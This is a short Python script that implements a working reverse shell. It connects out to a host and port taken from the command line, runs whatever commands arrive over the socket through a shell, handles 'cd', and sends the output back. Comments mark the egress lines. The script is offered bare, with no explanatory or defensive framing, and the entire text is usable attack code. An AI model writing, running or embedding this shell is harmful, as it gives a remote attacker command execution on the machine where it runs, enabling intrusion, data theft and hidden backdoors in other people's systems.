import socket,subprocess,os,sys
h,p=sys.argv[1],int(sys.argv[2])
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect((h,p))  # egress
while 1:
    cmd=s.recv(1024).decode()
    if cmd.strip()=="exit": break
    if cmd[:3]=="cd ":
        os.chdir(cmd[3:].strip()); s.send(b"ok"); continue  # egress
    out=subprocess.run(cmd,shell=True,capture_output=True)
    s.sendall(out.stdout+out.stderr)  # egress
s.close()
